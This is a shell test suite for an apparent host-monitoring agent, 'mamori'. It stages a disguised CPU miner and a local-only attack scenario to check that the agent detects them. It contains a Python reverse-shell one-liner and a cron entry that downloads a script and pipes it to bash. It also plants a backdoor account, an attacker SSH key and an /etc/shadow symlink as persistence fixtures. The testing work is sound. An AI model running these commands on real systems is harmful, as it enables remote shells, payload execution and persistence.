#!/bin/sh
# agent.sh MAMORI - `mamori agent` end to end on this very machine: a real
# CPU-burning program copied to <tmp>/.gitlab/kthreaddw holds a TCP
# connection to a listener on 127.0.0.1; `mamori agent --once` must spool
# a proc event for it (exe, SHA-256 of the binary, CPU share, lineage) and
# a sock event naming its pid; account changes under a test root (a uid 0
# duplicate, a new user, a shell added) become account events, also after
# a restart; a daemon killed with -9 loses nothing and a restart reads no
# spooled event twice. When the host detectors are in the binary (the
# hostproc detector in `mamori config show`), the miner's findings are
# asserted too. Every started process is killed on exit.
# Ends "agent: N passed, N failed, N skipped".
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/lib/suite.sh"
SUITE=agent
. "$HERE/lib/hostsuite.sh"

host_need cc python3

# --- the listener (the "mining pool") and the miner ------------------------------
pool_listen 127.0.0.1
mkdir -p "$T/.gitlab" "$T/src"
build_miner "$T/src/miner" full || { bad build_miner "cc failed"; exit 1; }
cp "$T/src/miner" "$T/.gitlab/kthreaddw"
"$T/.gitlab/kthreaddw" 127.0.0.1 "$PORT" &
MPID=$!
PIDS="$PIDS $MPID"
SHA=$(sha256sum "$T/.gitlab/kthreaddw" | cut -d' ' -f1)
# a shell whose stdin and stdout are a TCP connection: the reverse-shell shape
python3 -c "import socket,os,sys; s=socket.create_connection(('127.0.0.1',int(sys.argv[1]))); os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.execv('/bin/sh',['sh','-c','sleep 60; :'])" "$PORT" &
SHPID=$!
PIDS="$PIDS $SHPID"
# python (maybe behind a version-manager shim) execs the shell in the same process
i=0; while [ "$(cat /proc/$SHPID/comm 2>/dev/null)" != sh ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i+1)); done

# --- a test root: accounts ---------------------------------------------------------
R="$T/root"
mkdir -p "$R/etc/cron.d" "$R/home/git/.ssh" "$R/var/spool/cron"
echo '# sudoers' >"$R/etc/sudoers"; chmod 440 "$R/etc/sudoers"
echo '0 3 * * * root /usr/local/bin/backup' >"$R/etc/cron.d/backup"
echo 'alias ll="ls -l"' >"$R/home/git/.bashrc"
printf 'root:x:0:0:root:/root:/bin/bash\ngit:x:998:998::/home/git:/sbin/nologin\ntoor:x:0:0::/root:/bin/sh\n' >"$R/etc/passwd"
echo 127.0.0.1 >"$T/mining.txt"

DB="$T/a.db"
SP="$DB.agent"
run_once() {
	"$M" agent --once --db "$DB" --root "$R" --no-logs --sample-ms 1000 --host web-1 \
		--instance-id i-0123456789abcdef0 --threat-list "mining=$T/mining.txt" \
		--keep-spool --format json "$@"
}
sleep 0.3
run_once >"$T/once.json" 2>"$T/once.err"; rc=$?
expect once_exit_0 "exit $rc: $(tail -3 "$T/once.err")" test $rc -eq 0
cat "$SP"/*.hostevents.jsonl >"$T/ev1.jsonl" 2>/dev/null
grep "\"pid\":$MPID," "$T/ev1.jsonl" | grep '"what":"proc"' >"$T/mproc.jsonl"
expect proc_event "no proc event for pid $MPID" test -s "$T/mproc.jsonl"
expect proc_exe "$(head -c 400 "$T/mproc.jsonl")" has "$T/mproc.jsonl" "\"exe\":\"$T/.gitlab/kthreaddw\""
expect proc_name "name" has "$T/mproc.jsonl" '"name":"kthreaddw"'
expect proc_sha256 "want $SHA" has "$T/mproc.jsonl" "\"sha256\":\"$SHA\""
expect proc_host "host/instance" hasE "$T/mproc.jsonl" '"host":"web-1".*"instance_id":"i-0123456789abcdef0"|"instance_id":"i-0123456789abcdef0".*"host":"web-1"'
CPU=$(sed -n 's/.*"cpu_permille":\([0-9]*\).*/\1/p' "$T/mproc.jsonl" | head -1)
expect proc_cpu "cpu_permille=$CPU (a busy loop)" test "${CPU:-0}" -ge 100
expect proc_lineage "lineage names the shell's pid $$" has "$T/mproc.jsonl" "\"lineage\":\"$$:"
expect proc_cmdline "cmdline" has "$T/mproc.jsonl" "kthreaddw 127.0.0.1 $PORT"
grep '"what":"sock"' "$T/ev1.jsonl" | grep "\"pid\":$MPID," >"$T/msock.jsonl"
expect sock_event "no sock event for pid $MPID" test -s "$T/msock.jsonl"
expect sock_remote "$(head -c 400 "$T/msock.jsonl")" has "$T/msock.jsonl" '"remote":"127.0.0.1"'
expect sock_rport "rport $PORT" has "$T/msock.jsonl" "\"rport\":$PORT"
expect sock_state "ESTABLISHED" has "$T/msock.jsonl" '"state":"ESTABLISHED"'
expect sock_exe "sock carries the process" has "$T/msock.jsonl" "\"exe\":\"$T/.gitlab/kthreaddw\""
grep '"what":"sock"' "$T/ev1.jsonl" | grep "\"pid\":$SHPID," | grep '"path":"fd:0,1"' >"$T/rsh.jsonl"
expect sock_stdio_shell "$(grep "\"pid\":$SHPID," "$T/ev1.jsonl" | cut -c1-300)" test -s "$T/rsh.jsonl"
expect sock_stdio_remote "the shell's peer" has "$T/rsh.jsonl" "\"rport\":$PORT"
expect sock_holder_fd "a sock event names the holder's fd" has "$T/msock.jsonl" '"path":"fd:3"'
expect account_uid0 "toor uid0" hasE "$T/ev1.jsonl" '"what":"account".*"user":"toor".*"change":"uid0"|"change":"uid0".*"user":"toor"'
expect account_no_created_first "a first run has no baseline" sh -c "! grep -q '\"change\":\"created\"' '$T/ev1.jsonl'"
expect fim_baseline_first "$(cat "$T/once.err")" has "$T/once.err" "baseline recorded"
expect spool_mode_0600 "$(ls -l "$SP")" sh -c "[ \"\$(stat -c %a '$SP')\" = 700 ]"
expect summary_counts "$(cat "$T/once.err")" hasE "$T/once.err" 'host records [1-9]'

# --- the host detectors, when this binary has them ----------------------------------
if "$M" config show 2>/dev/null | grep -q '^hostproc:'; then
	expect finding_bitcointool "$(head -c 300 "$T/once.json")" has "$T/once.json" 'CryptoCurrency:Runtime/BitcoinTool.B'
	# CryptoMinerExecuted wants sustained CPU: 3 samples at or above the
	# detector's cpu_permille (default 500). A loaded test machine may not
	# give the busy loop that much, so the CPU is not taken live: the
	# miner's own proc event from the spool comes back three times, a minute
	# apart, with cpu_permille 900, as a host-event file the agent reads
	# (--log), beside its live cycle
	python3 - "$T/mproc.jsonl" "$T/cpu.hostevents.jsonl" <<'PY'
import datetime, json, sys
ev = json.loads(open(sys.argv[1]).readline())
t = datetime.datetime.strptime(ev["time"][:19], "%Y-%m-%dT%H:%M:%S")
with open(sys.argv[2], "w") as o:
    for k in (1, 2, 3):
        ev["time"] = (t + datetime.timedelta(minutes=k)).strftime("%Y-%m-%dT%H:%M:%S.000Z")
        ev["cpu_permille"] = 900
        o.write(json.dumps(ev, separators=(",", ":")) + "\n")
PY
	"$M" agent --once --db "$DB" --root "$R" --log "$T/cpu.hostevents.jsonl" --sample-ms 100 \
		--host web-1 --instance-id i-0123456789abcdef0 --threat-list "mining=$T/mining.txt" \
		--keep-spool --format none -q >/dev/null 2>"$T/cpu.err"
	run_once >/dev/null 2>&1
	"$M" findings list --db "$DB" --format json >"$T/all.json"
	expect finding_miner "$(cat "$T/cpu.err"; grep -o '"type":"[^"]*"' "$T/all.json" | sort -u | tr '\n' ' ')" \
		sh -c "grep 'Impact:Runtime/CryptoMinerExecuted' '$T/all.json' | grep -qF '\"executablePath\":\"$T/.gitlab/kthreaddw\"'"
	expect finding_no_dup_bitcointool "one BitcoinTool.B finding for the miner after three runs" \
		test "$(grep -c 'CryptoCurrency:Runtime/BitcoinTool.B' "$T/all.json")" -eq 1
else
	skipped findings "no hostproc detector in this binary (h-hostdet not merged)"
fi

# --- a second cycle: account changes against the saved baseline; nothing re-read ----
printf 'root:x:0:0:root:/root:/bin/bash\ngit:x:998:998::/home/git:/bin/bash\ntoor:x:0:0::/root:/bin/sh\nbackdoor:x:1500:1500::/home/b:/bin/bash\n' >"$R/etc/passwd"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx attacker@evil' >"$R/home/git/.ssh/authorized_keys"
echo '*/5 * * * * git wget -q -O - http://203.0.113.9/gi.sh | bash' >"$R/var/spool/cron/git"
chmod 666 "$R/etc/sudoers"
rm "$R/etc/cron.d/backup"
ln -s /etc/shadow "$R/etc/ld.so.preload"
NBEFORE=$(ls "$SP"/*.hostevents.jsonl | wc -l)
run_once >/dev/null 2>"$T/two.err"; rc=$?
expect second_exit_0 "exit $rc: $(tail -3 "$T/two.err")" test $rc -eq 0
LAST=$(ls "$SP"/*.hostevents.jsonl | sort | tail -1)
expect account_created "$(grep account "$LAST" | head -3)" hasE "$LAST" '"user":"backdoor".*"change":"created"|"change":"created".*"user":"backdoor"'
expect account_shell "git gained a shell" hasE "$LAST" '"user":"git".*"change":"shell"|"change":"shell".*"user":"git"'
expect account_uid0_once "toor is not reported again" sh -c "! grep -q '\"user\":\"toor\"' '$LAST'"
fe() { grep '"what":"file"' "$LAST" | grep -F "\"path\":\"$1\"" | grep -q "\"change\":\"$2\""; }
expect fim_authorized_keys_created "$(grep '"file"' "$LAST" | cut -c1-200)" fe /home/git/.ssh/authorized_keys created
expect fim_crontab_created "crontab" fe /var/spool/cron/git created
expect fim_passwd_modified "passwd" fe /etc/passwd modified
expect fim_passwd_diff "a unified diff" has "$LAST" '+backdoor:x:1500:1500::/home/b:/bin/bash'
expect fim_sudoers_mode "mode" fe /etc/sudoers mode
expect fim_sudoers_mode_detail "mode 100440->100666" has "$LAST" 'mode 100440->100666'
expect fim_cron_deleted "deleted" fe /etc/cron.d/backup deleted
expect fim_symlink_not_followed "ld.so.preload is a link, recorded as created, not read" fe /etc/ld.so.preload created
expect fim_unchanged_quiet ".bashrc did not change" sh -c "! grep -q '\"path\":\"/home/git/.bashrc\"' '$LAST'"
N2=$(wc -l <"$LAST")
expect second_reads_only_new "$(cat "$T/two.err") vs $N2 lines" has "$T/two.err" "host records $N2;"
expect spool_grew_by_one "$NBEFORE -> $(ls "$SP"/*.hostevents.jsonl | wc -l)" \
	test "$(ls "$SP"/*.hostevents.jsonl | wc -l)" -eq $((NBEFORE + 1))


# --- triage: the bundle from the test root and this machine's /proc --------------------
mkdir -p "$R/var/log"
printf 'Dec  5 22:48:54 web-1 sshd[4242]: Accepted password for git from 198.51.100.7 port 52311 ssh2\n' >"$R/var/log/secure"
printf 'Dec  5 22:50:01 web-1 CROND[5151]: (git) CMD (wget -q -O - http://203.0.113.9/gi.sh | bash)\n' >"$R/var/log/cron"
printf 'wget -q -O - http://203.0.113.9/gi.sh | bash\ncrontab -e\n' >"$R/home/git/.bash_history"
python3 - "$R/var/log/wtmp" <<'PY'
import struct, sys, time
f = "hi32s4s32s256shhiii4i20s"
assert struct.calcsize(f) == 384
def rec(t, pid, line, user, host):
    return struct.pack(f, t, pid, line.encode(), b"ts/0", user.encode(), host.encode(), 0, 0, 0,
                       int(time.time()) - 60, 0, 0, 0, 0, 0, b"")
open(sys.argv[1], "wb").write(rec(2, 0, "~", "reboot", "5.15") + rec(7, 4242, "pts/0", "git", "198.51.100.7"))
PY
snap() { find "$R" -exec stat -c '%n %s %Y %a' {} + | sort | sha256sum; }
BEFORE=$(snap)
"$M" agent triage --out "$T/bundle.tar.gz" --root "$R" --db "$DB" --include-binaries --sample-ms 500 2>"$T/triage.err"; rc=$?
expect triage_exit_0 "exit $rc: $(cat "$T/triage.err")" test $rc -eq 0
tar tzf "$T/bundle.tar.gz" >"$T/bundle.list" 2>"$T/tar.err"
expect triage_tar_lists "$(cat "$T/tar.err")" test -s "$T/bundle.list"
for m in summary.txt processes.json sockets.json crontabs.json logins.json users.json \
	fim_changes.json suspicious_binaries.json logs/secure.txt logs/cron.txt users/git/.bash_history; do
	expect "triage_has_$m" "$(tr '\n' ' ' <"$T/bundle.list")" grep -qx "mamori-triage/$m" "$T/bundle.list"
done
mkdir -p "$T/bx" && tar xzf "$T/bundle.tar.gz" -C "$T/bx"
B="$T/bx/mamori-triage"
expect triage_json_valid "every .json parses" python3 -c "import json,glob,sys; [json.load(open(f)) for f in glob.glob(sys.argv[1]+'/*.json')]" "$B"
expect triage_proc_hash "the miner's hash" sh -c "grep -q '$SHA' '$B/processes.json' && grep -q '$SHA' '$B/suspicious_binaries.json'"
expect triage_summary_miner "$(head -12 "$B/summary.txt")" has "$B/summary.txt" "kthreaddw"
expect triage_summary_conn "tcp -> 127.0.0.1:$PORT" has "$B/summary.txt" "tcp -> 127.0.0.1:$PORT"
expect triage_sock_pid "socket with the miner's pid" has "$B/sockets.json" "\"rport\":$PORT,\"state\":\"ESTABLISHED\",\"inode\":[0-9]*,\"pid\":$MPID"
expect triage_login "git from 198.51.100.7" python3 -c "import json,sys; l=json.load(open(sys.argv[1])); assert any(r['user']=='git' and r['host']=='198.51.100.7' and r['type']=='login' for r in l)" "$B/logins.json"
expect triage_crontab_content "the cron download" has "$B/crontabs.json" "gi.sh | bash"
expect triage_fim_keys "authorized_keys change" has "$B/fim_changes.json" "/home/git/.ssh/authorized_keys"
expect triage_auth_lines "secure" has "$B/logs/secure.txt" "Accepted password for git"
BIN=$(ls "$B"/binaries/*-kthreaddw 2>/dev/null | head -1)
expect triage_binary_included "$(ls "$B/binaries" 2>&1)" sh -c "[ -n '$BIN' ] && [ \"\$(sha256sum <'$BIN' | cut -d' ' -f1)\" = '$SHA' ]"
expect triage_changes_nothing "the test root changed" test "$BEFORE" = "$(snap)"
"$M" agent triage --out "$T/nobin.tar.gz" --root "$R" --db "$DB" --sample-ms 100 -q 2>/dev/null
expect triage_no_binaries_default "binaries only when asked" sh -c "! tar tzf '$T/nobin.tar.gz' | grep -q binaries/"
SUMB=$(sha256sum <"$T/bundle.tar.gz")
"$M" agent triage --out "$T/bundle.tar.gz" --root "$R" -q 2>/dev/null; rc=$?
expect triage_never_overwrites "exit $rc" sh -c "[ $rc -eq 1 ] && [ \"\$(sha256sum <'$T/bundle.tar.gz')\" = '$SUMB' ]"

# --- without --keep-spool, files read to their end are removed -------------------------
"$M" agent --once --db "$DB" --root "$R" --no-logs --sample-ms 100 --format none -q 2>/dev/null
expect spool_pruned "$(ls "$SP")" sh -c "! ls '$SP'/*.hostevents.jsonl >/dev/null 2>&1"

# --- kill -9 of the daemon: nothing lost, nothing read twice ----------------------------
DB2="$T/d.db"
"$M" agent --db "$DB2" --root "$R" --no-logs --sample-ms 100 --interval 1 --keep-spool -q 2>/dev/null &
DPID=$!
PIDS="$PIDS $DPID"
sleep 5
kill -9 $DPID 2>/dev/null; wait $DPID 2>/dev/null
# exactly once: what the daemon committed is not read again, what it had
# not committed is read now; afterwards every spool file is read whole
if command -v sqlite3 >/dev/null 2>&1; then
	sqlite3 "$DB2" "select path from files" 2>/dev/null | sort >"$T/committed"
	"$M" agent --once --db "$DB2" --root "$R" --no-logs --sample-ms 100 --keep-spool --format none 2>"$T/after.err"
	expect after_kill_exit "$(cat "$T/after.err")" test $? -eq 0
	WANT=0
	for f in "$DB2.agent"/*.hostevents.jsonl; do
		rf=$(realpath "$f")
		grep -qxF "$rf" "$T/committed" || WANT=$((WANT + $(wc -l <"$f")))
	done
	expect after_kill_reads_uncommitted_once "want host records $WANT: $(tail -1 "$T/after.err")" \
		has "$T/after.err" "host records $WANT;"
	LOST=0
	for f in "$DB2.agent"/*.hostevents.jsonl; do
		rf=$(realpath "$f")
		got=$(sqlite3 "$DB2" "select complete || ':' || line from files where path='$rf'")
		[ "$got" = "1:$(wc -l <"$f")" ] || LOST=$((LOST + 1))
	done
	expect after_kill_nothing_lost "$LOST spool files not read whole" test $LOST -eq 0
	expect daemon_cycled "the daemon wrote several cycles" \
		test "$(ls "$DB2.agent"/*.hostevents.jsonl | wc -l)" -ge 2
else
	skipped after_kill "no sqlite3 to read the file progress"
fi
expect no_tmp_left_fed "tmp files are not spool files" sh -c "! ls '$DB2.agent'/*.tmp >/dev/null 2>&1"

# --- usage -----------------------------------------------------------------------------
"$M" agent --interval 0 >/dev/null 2>&1; rc=$?
expect usage_interval "exit $rc" test $rc -eq 2
"$M" agent --bogus >/dev/null 2>&1; rc=$?
expect usage_unknown "exit $rc" test $rc -eq 2
"$M" agent --help >"$T/help" 2>&1
expect help_lists_once "help" has "$T/help" "--once"
"$M" agent help >"$T/help2" 2>&1
expect help_lists_run "subcommands" has "$T/help2" "run"

echo "agent: $pass passed, $fail failed, $skip skipped"
[ $fail -eq 0 ]
